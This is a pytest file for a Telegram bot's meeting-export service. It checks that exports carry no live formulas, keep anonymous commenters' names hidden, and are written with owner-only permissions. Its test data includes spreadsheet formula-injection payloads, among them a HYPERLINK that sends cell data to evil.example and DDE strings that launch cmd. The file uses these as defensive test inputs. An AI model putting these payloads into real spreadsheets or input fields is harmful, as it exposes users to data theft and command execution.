"""Exports keep what they promise: hidden names stay hidden, no cell is a live formula, and
the files written on the server are readable by their owner only."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest
from docx import Document
from openpyxl import load_workbook

from bot import cli
from bot.clock import ManualClock
from bot.exports.service import ExportService
from bot.services import Services
from storage.models import AttendanceAnswer
from tests.attendance_helpers import days, make_meeting
from tests.builders import add_members, build_cell

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


async def _meeting_with_formulas(services: Services, clock: ManualClock) -> tuple[int, int]:
    cell = await build_cell(services.db, members=2)
    people = await add_members(
        services.db, cell.cell_id, list(FORMULAS), tid_base=700, member_name=""
    )
    meeting = await make_meeting(services.db, cell.cell_id, clock.now() + days(3))
    for person, formula in zip(people, FORMULAS, strict=True):
        assert person.telegram_id is not None
        await services.attendance.set_reason(person.telegram_id, meeting, "khac", formula)
        await services.comments.add(person.telegram_id, meeting, formula)
    await services.attendance.answer(cell.member_tids[0], meeting, AttendanceAnswer.YES)
    return cell.cell_id, meeting


def _workbook_cells(content: bytes) -> Iterator[object]:
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


async def test_exports_never_hold_a_live_formula(services: Services, clock: ManualClock) -> None:
    cell_id, meeting = await _meeting_with_formulas(services, clock)
    xlsx, csv_file, *_ = (await ExportService(services.db, clock).meeting(cell_id, meeting)).files

    cells = list(_workbook_cells(xlsx.content))
    assert [c for c in cells if getattr(c, "data_type", None) == "f"] == []
    values = {getattr(c, "value", None) for c in cells}
    assert set(FORMULAS) <= values  # names and comments kept as the text typed
    assert {f"lý do khác: {formula.strip()}" for formula in FORMULAS} <= values

    rows = list(csv.reader(io.StringIO(csv_file.content.decode("utf-8-sig"), newline="")))
    assert [cell for row in rows for cell in row if cell.startswith(DANGEROUS_START)] == []
    names = {row[3] for row in rows[1:]}
    assert {"'" + formula for formula in FORMULAS} <= names  # neutralised as OWASP advises


async def test_hidden_names_stay_out_of_exports(services: Services, clock: ManualClock) -> None:
    cell = await build_cell(services.db, members=2)
    meeting = await make_meeting(services.db, cell.cell_id, clock.now() + days(3))
    open_, shy = cell.member_tids
    await services.comments.add(open_, meeting, "Góp ý có tên")
    hidden = await services.comments.add(shy, meeting, "Góp ý xin ẩn tên")
    await services.comments.set_hidden(shy, hidden.id, True)
    xlsx, _, docx, *_ = (
        await ExportService(services.db, clock).meeting(cell.cell_id, meeting)
    ).files

    comments = list(load_workbook(io.BytesIO(xlsx.content))["Góp ý"].iter_rows(values_only=True))
    assert [(c[1], c[2], c[3]) for c in comments[1:]] == [
        ("Trần Thị Đảng Viên 01", None, "Góp ý có tên"),
        ("Một đồng chí", "Có", "Góp ý xin ẩn tên"),
    ]
    paragraphs = [p.text for p in Document(io.BytesIO(docx.content)).paragraphs]
    assert "Đồng chí Trần Thị Đảng Viên 01: Góp ý có tên" in paragraphs
    assert "Một đồng chí (đề nghị ẩn tên): Góp ý xin ẩn tên" in paragraphs
    assert not any("Đảng Viên 02" in p and "Góp ý" in p for p in paragraphs)
    # the committee itself still sees who wrote it
    view = await services.comments.for_meeting(cell.secretary_tid, meeting)
    assert [c.author_name for c in view.comments] == [
        "Trần Thị Đảng Viên 01",
        "Trần Thị Đảng Viên 02",
    ]


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


async def test_exported_files_are_readable_by_their_owner_only(
    services: Services, clock: ManualClock, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cell = await build_cell(services.db, members=2)
    meeting = await make_meeting(services.db, cell.cell_id, clock.now() + days(3))
    monkeypatch.setenv("DATABASE_URL", services.db.url)
    monkeypatch.setenv("TELEGRAM_BOT_TOKEN", "")
    out = tmp_path / "xuat" / "2026"
    stale = tmp_path / "old"
    stale.mkdir()
    exported = await ExportService(services.db, clock).meeting(cell.cell_id, meeting)
    old_file = stale / exported.files[1].filename
    old_file.write_bytes(b"old")
    old_file.chmod(0o644)
    previous = os.umask(0)  # the most permissive umask: the modes must not depend on it
    try:
        args = ["export", "--cell", str(cell.cell_id), "--meeting", str(meeting)]
        assert await asyncio.to_thread(cli.main, [*args, "--out", str(out)]) == 0
        assert await asyncio.to_thread(cli.main, [*args, "--out", str(stale)]) == 0
    finally:
        os.umask(previous)
    assert _mode(out) == 0o700 and _mode(out.parent) == 0o700
    written = sorted(out.iterdir())
    assert len(written) == 4 and {_mode(path) for path in written} == {0o600}
    assert {_mode(path) for path in stale.iterdir()} == {0o600}  # rewritten files too
    assert old_file.read_bytes() == exported.files[1].content
